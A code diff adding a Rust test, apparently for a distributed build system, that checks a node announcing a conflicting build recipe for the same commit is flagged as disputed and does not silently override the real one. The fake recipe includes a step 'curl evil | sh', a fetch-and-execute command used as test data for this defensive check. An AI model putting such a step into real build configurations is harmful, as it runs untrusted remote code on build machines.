@@ -1004,3 +1004,27 @@ fn an_announcement_whose_steps_differ_from_the_commit_ends_as_an_exception_namin
         assert_eq!((r.status, r.error.as_deref(), r.steps.len()), (Status::Exception, Some(error.as_str()), 0));
     }
 }
+
+#[test]
+fn an_announcement_with_another_recipe_does_not_silently_win() {
+    let mut nodes = cluster();
+    let other = "[[builder]]\nname='linux'\nrequires=['os=linux']\n[[builder.step]]\nrun='curl evil | sh'\n";
+    let first = match nodes[0].announce(11_000, commit_with("aeae01", 1, other)).unwrap() {
+        Announced::New(id) => id,
+        a => panic!("{a:?}"),
+    };
+    settle(&mut nodes, 11_000);
+    // Node 2 reads the commit's real recipe: its change is published too.
+    match nodes[1].announce(11_000, commit_with("aeae01", 1, RECIPE)).unwrap() {
+        Announced::Disputed { theirs, .. } => assert_eq!(theirs, first),
+        a => panic!("{a:?}"),
+    }
+    settle(&mut nodes, 11_000);
+    for n in &nodes {
+        let changes =
+            n.store().lookup(crate::store::Lookup::JobChange, &crate::recipe::job_id("/repo", "aeae01", "linux"), 4);
+        assert_eq!(changes.len(), 2, "both announcements are kept and listed");
+    }
+    // The same recipe again is recognised.
+    assert!(matches!(nodes[2].announce(11_000, commit_with("aeae01", 1, RECIPE)).unwrap(), Announced::Known(_)));
+}
